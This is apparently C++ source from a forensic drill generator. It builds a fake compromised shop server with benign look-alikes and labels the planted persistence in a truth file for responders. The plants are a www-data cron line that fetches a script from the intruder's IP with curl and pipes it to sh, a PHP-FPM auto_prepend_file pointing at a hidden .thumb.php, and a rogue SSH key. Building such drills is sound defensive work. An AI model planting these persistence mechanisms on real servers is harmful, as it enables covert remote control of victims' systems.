@@ -1,0 +1,175 @@
+// The drilled server around the store (OUT/host): what `tar c /etc /var/spool/cron
+// /var/www/.ssh /home` would hold. Every scenario's intruder leaves persistence there after
+// the foothold: a www-data crontab line that fetches and runs a script from the intruder's
+// address, a PHP-FPM pool that prepends a hidden PHP file to every request, and an SSH key in
+// www-data's authorized_keys. Beside them, what every shop's server has and must stay quiet:
+// the platform's cron job, Debian's system crontab and PHP session cleaner, the stock pool,
+// an nginx site passing PHP to FPM, the operator's own SSH key and a deploy user's history
+// with a database backup. Files get the times they were last changed (the attacker's lines:
+// the persistence step); truth.json lists each planted item (host_persistence) and look-alike
+// (benign_host) with file and line.
+#include <sodium.h>
+
+#include <filesystem>
+#include <string>
+#include <vector>
+
+#include "drill/internal.h"
+#include "drill/schedule.h"
+
+namespace tq::drill {
+namespace {
+
+// "ssh-ed25519 <base64 of the wire blob>": any 32 bytes are a well-formed Ed25519 key.
+std::string Ed25519Line(Rng& r, std::string_view comment) {
+  std::string blob;
+  std::string type = "ssh-ed25519";
+  auto u32 = [&](uint32_t n) {
+    for (int s = 24; s >= 0; s -= 8) blob += static_cast<char>((n >> s) & 0xff);
+  };
+  u32(static_cast<uint32_t>(type.size()));
+  blob += type;
+  u32(32);
+  for (int i = 0; i < 32; ++i) blob += static_cast<char>(r.Below(256));
+  std::string b64(sodium_base64_ENCODED_LEN(blob.size(), sodium_base64_VARIANT_ORIGINAL), '\0');
+  sodium_bin2base64(b64.data(), b64.size(), reinterpret_cast<const unsigned char*>(blob.data()),
+                    blob.size(), sodium_base64_VARIANT_ORIGINAL);
+  b64.resize(b64.find('\0'));
+  return type + " " + b64 + " " + std::string(comment);
+}
+
+// When the intruder settled in: the first foothold step (webshell, rogue admin, token,
+// injected content), else the end of the attack window.
+UnixMicros PersistTime(const Truth& t) {
+  for (const TruthStep& s : t.steps)
+    if (s.action == "webshell" || s.action == "persistence" || s.action == "inject" ||
+        s.action == "token" || s.action == "upload")
+      return s.t;
+  return t.steps.empty() ? 0 : t.steps.back().t;
+}
+
+}  // namespace
+
+Status WriteHost(const std::string& out_dir, uint64_t seed, const Store& s, Breach* b) {
+  Rng r(seed, 41);
+  Truth& t = b->truth;
+  const bool m = s.spec.platform == Platform::kMagento;
+  const std::string root = out_dir + "/host";
+  const std::string docroot = "/var/www/" + s.spec.host;
+  const std::string php = m ? "8.1" : "8.2";
+  uint32_t intruder = t.entry_ip;
+  for (const auto& [ip, role] : t.attackers)
+    if (role == "intruder") {
+      intruder = ip;
+      break;
+    }
+  const UnixMicros persist = PersistTime(t) + 7 * kMin;
+  const UnixMicros installed = s.spec.installed;
+  auto plant = [&](std::string kind, std::string path, int line, UnixMicros when,
+                   std::string what) {
+    t.host_persistence.push_back({std::move(kind), "host/" + path, line, when, std::move(what)});
+  };
+  auto benign = [&](std::string path, int line, std::string why) {
+    t.benign_host.push_back({"", "host/" + path, line, 0, std::move(why)});
+  };
+
+  // Debian's system crontab and PHP session cleaner: stock, quiet.
+  TQ_RETURN_IF_ERROR(WriteFileAt(
+      root + "/etc/crontab",
+      "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n"
+      "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
+      "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report "
+      "/etc/cron.daily )\n",
+      installed, true));
+  TQ_RETURN_IF_ERROR(
+      WriteFileAt(root + "/etc/cron.d/php",
+                  "09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d "
+                  "/run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n",
+                  installed, true));
+  benign("etc/cron.d/php", 1, "Debian's PHP session cleaner");
+
+  // www-data's crontab: the platform's own job, then the intruder's line.
+  std::string script = "/" + r.Alnum(6) + ".sh";
+  std::string cron_line =
+      "*/10 * * * * curl -fsSL http://" + IpToString(intruder) + script + " | sh >/dev/null 2>&1";
+  std::string platform_job = m ? "* * * * * /usr/bin/php " + docroot +
+                                     "/bin/magento cron:run 2>&1 | grep -v \"Ran "
+                                     "jobs by schedule\" >> " +
+                                     docroot + "/var/log/magento.cron.log"
+                               : "*/5 * * * * wget -q -O - https://" + s.spec.host +
+                                     "/wp-cron.php?doing_wp_cron >/dev/null 2>&1";
+  TQ_RETURN_IF_ERROR(WriteFileAt(root + "/var/spool/cron/crontabs/www-data",
+                                 "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n" +
+                                     platform_job + "\n" + cron_line + "\n",
+                                 persist, true));
+  benign("var/spool/cron/crontabs/www-data", 2, "the platform's scheduled jobs");
+  plant("cron", "var/spool/cron/crontabs/www-data", 3, persist,
+        "cron line that downloads a script from the intruder's address and runs it");
+
+  // The PHP-FPM pool: stock settings, plus a prepended file hidden in the media folder.
+  std::string hidden = docroot + (m ? "/pub/media/catalog/product/cache/.thumb.php"
+                                    : "/wp-content/uploads/.cache/.thumb.php");
+  std::string pool = "[www]\nuser = www-data\ngroup = www-data\nlisten = /run/php/php" + php +
+                     "-fpm.sock\nlisten.owner = www-data\nlisten.group = www-data\npm = dynamic\n"
+                     "pm.max_children = 20\npm.start_servers = 4\npm.min_spare_servers = 2\n"
+                     "pm.max_spare_servers = 6\nphp_admin_value[memory_limit] = 756M\n"
+                     "php_admin_value[auto_prepend_file] = " +
+                     hidden + "\n";
+  TQ_RETURN_IF_ERROR(
+      WriteFileAt(root + "/etc/php/" + php + "/fpm/pool.d/www.conf", pool, persist + kMin, true));
+  plant("php_prepend", "etc/php/" + php + "/fpm/pool.d/www.conf", 13, persist + kMin,
+        "PHP-FPM pool prepends a hidden PHP file to every request");
+  TQ_RETURN_IF_ERROR(WriteFileAt(root + "/etc/php/" + php + "/fpm/php.ini",
+                                 "[PHP]\nengine = On\nauto_prepend_file =\nauto_append_file =\n"
+                                 "memory_limit = 756M\nupload_max_filesize = 64M\n",
+                                 installed, true));
+  benign("etc/php/" + php + "/fpm/php.ini", 3, "php.ini with the prepend setting left empty");
+
+  // The nginx site: PHP to FPM, uploads denied.
+  std::string site =
+      "server {\n    listen 443 ssl http2;\n    server_name " + s.spec.host + ";\n    root " +
+      docroot + (m ? "/pub" : "") + ";\n    index index.php;\n" +
+      (m ? "    location /media/ {\n        try_files $uri $uri/ /get.php$is_args$args;\n"
+           "        location ~* \\.php$ { deny all; }\n    }\n"
+         : "    location ~* /(?:uploads|files)/.*\\.php$ { deny all; }\n") +
+      "    location ~ \\.php$ {\n        include snippets/fastcgi-php.conf;\n"
+      "        fastcgi_pass unix:/run/php/php" +
+      php + "-fpm.sock;\n    }\n}\n";
+  TQ_RETURN_IF_ERROR(
+      WriteFileAt(root + "/etc/nginx/sites-enabled/" + s.spec.host, site, installed, true));
+  benign("etc/nginx/sites-enabled/" + s.spec.host, 1, "nginx site passing PHP to FPM");
+
+  // www-data's SSH keys: the deploy key the operator installed, then the intruder's.
+  std::string ops_key = Ed25519Line(r, "deploy@ci");
+  std::string attacker_key = Ed25519Line(r, "www-data@" + s.spec.host);
+  TQ_RETURN_IF_ERROR(WriteFileAt(root + "/var/www/.ssh/authorized_keys",
+                                 ops_key + "\n" + attacker_key + "\n", persist + 2 * kMin, true));
+  benign("var/www/.ssh/authorized_keys", 1, "the operator's deploy key");
+  plant("ssh_key", "var/www/.ssh/authorized_keys", 2, persist + 2 * kMin,
+        "SSH key added to www-data's authorized_keys");
+  // The responders know their own key: what `investigate --known-keys` is given.
+  TQ_RETURN_IF_ERROR(WriteFileAt(out_dir + "/known_keys.pub", ops_key + "\n", installed, true));
+
+  // A deploy user's history: routine work and a backup to a private folder (a look-alike of
+  // a dump: medium at most, never high).
+  UnixMicros day = s.spec.log_start + kDay + 9 * kHour;
+  auto stamp = [&](UnixMicros at) { return "#" + std::to_string(at / kSec) + "\n"; };
+  std::string hist = stamp(day) + "cd " + docroot + "\n" + stamp(day + kMin) +
+                     (m ? "php bin/magento cache:flush\n" : "wp plugin list\n") +
+                     stamp(day + 2 * kMin) + "mysqldump " + s.spec.db_name +
+                     " | gzip > /home/deploy/backups/" + s.spec.db_name + ".sql.gz\n" +
+                     stamp(day + 3 * kMin) + "sudo systemctl reload php" + php + "-fpm\n";
+  TQ_RETURN_IF_ERROR(WriteFileAt(root + "/home/deploy/.bash_history", hist, day + 3 * kMin, true));
+  benign("home/deploy/.bash_history", 6, "a database backup into the deploy user's home");
+  // Folders get a fixed time too: the same seed gives the same tree, times included.
+  std::vector<std::string> dirs;
+  std::error_code ec;
+  for (auto it = std::filesystem::recursive_directory_iterator(root, ec);
+       !ec && it != std::filesystem::recursive_directory_iterator(); it.increment(ec))
+    if (it->is_directory()) dirs.push_back(it->path().string());
+  if (ec) return Status::FromErrno(root, ec.value());
+  for (const std::string& d : dirs) TQ_RETURN_IF_ERROR(SetMtime(d, installed));
+  return Status::Ok();
+}
+
+}  // namespace tq::drill
